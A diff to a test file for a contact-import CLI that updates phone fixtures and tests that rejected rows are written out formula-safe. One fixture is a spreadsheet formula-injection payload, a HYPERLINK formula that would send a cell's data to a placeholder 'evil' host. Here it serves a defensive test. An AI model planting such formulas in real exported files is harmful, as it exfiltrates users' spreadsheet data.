@@ -2,15 +2,16 @@
 // re-import, an interrupted import resumed, bad rows, dry runs and exit codes.
 import { readFileSync } from "node:fs";
 import { join } from "node:path";
-import { api, newWorkspace } from "@deskline/test-kit";
+import { admin, api, newWorkspace } from "@deskline/test-kit";
 import { beforeEach, describe, expect, it } from "vitest";
 import { cli, scratch, spawnCli, writeScratch } from "./helpers.js";
 
 let key: string;
+let workspaceId: string;
 let dir: string;
 
 beforeEach(async () => {
-  ({ key } = await newWorkspace());
+  ({ key, workspaceId } = await newWorkspace());
   dir = scratch();
 });
 
@@ -41,7 +42,7 @@ async function importJson(args: string[], input?: string) {
 // A BOM, quotes with a comma and a doubled quote, a cell with a newline, every kind of column.
 const CSV = [
   "\uFEFFname,email,phone,tags,segments,lifecycle_stage,do_not_contact,birthday,custom_fields.plan,custom_fields.note,external_ids.crm,address.city,address.country",
-  'Ada Lovelace,ada@example.com,+44 20 1234,vip;beta,emea|enterprise,customer,yes,1815-12-10,pro,"Likes ""engines"", math",crm-1,London,GB',
+  'Ada Lovelace,ada@example.com,+44 20 7946 1234,vip;beta,emea|enterprise,customer,yes,1815-12-10,pro,"Likes ""engines"", math",crm-1,London,GB',
   'Grace Hopper,grace@example.com,,navy,,lead,no,,free,"line one',
   'line two",crm-2,,US',
   "Alan Turing,alan@example.com,,,,,,,,,,Manchester,",
@@ -66,7 +67,7 @@ describe("CSV import", () => {
     expect(contacts).toHaveLength(3);
     expect(byEmail(contacts, "ada@example.com")).toMatchObject({
       name: "Ada Lovelace",
-      phone: "+44 20 1234",
+      phone: "+44 20 7946 1234",
       tags: ["vip", "beta"],
       segments: ["emea", "enterprise"],
       lifecycle_stage: "customer",
@@ -241,12 +242,14 @@ describe("bad rows", () => {
 
   it("--errors is formula-safe as an export is, and imports again to the same values", async () => {
     const evil = '=HYPERLINK("https://evil.invalid/?d="&A1,"fix me")';
+    // `-12` is no phone number: a lenient workspace keeps it as given (docs/decisions.md, "Phones in E.164").
+    await admin("PATCH", `/admin/v1/workspaces/${workspaceId}`, { phone_validation: "lenient" });
     const file = writeScratch(
       dir,
       "formulas.csv",
       [
         "name,email,phone,custom_fields.note",
-        `"${evil.replaceAll('"', '""')}",not-an-email,+1 555 0100,@SUM(1+1)`, // line 2: refused (email)
+        `"${evil.replaceAll('"', '""')}",not-an-email,+1 555 010 0100,@SUM(1+1)`, // line 2: refused (email)
         "'=quoted,bad,-12,'@x", // line 3: refused; its cells read as =quoted, -12 and @x
       ].join("\n"),
     );
@@ -258,7 +261,7 @@ describe("bad rows", () => {
       for (const cell of line.split(",")) expect(cell.replace(/^"/, ""), line).not.toMatch(/^[=+\-@\t\r]/);
     }
     expect(rejected).toContain(`'${evil.replaceAll('"', '""')}`);
-    expect(rejected).toContain("'+1 555 0100");
+    expect(rejected).toContain("'+1 555 010 0100");
     expect(rejected).toContain("'@SUM(1+1)");
     expect(rejected).toMatch(/^3,.*,'=quoted,bad,'-12,'@x$/m);
     // Fixed (the emails) and imported again, the values are the ones first sent.
@@ -273,7 +276,7 @@ describe("bad rows", () => {
     const contacts = await allContacts();
     expect(byEmail(contacts, "evil@example.com")).toMatchObject({
       name: evil,
-      phone: "+1 555 0100",
+      phone: "+1 555 010 0100",
       custom_fields: { note: "@SUM(1+1)" },
     });
     expect(byEmail(contacts, "quoted@example.com")).toMatchObject({
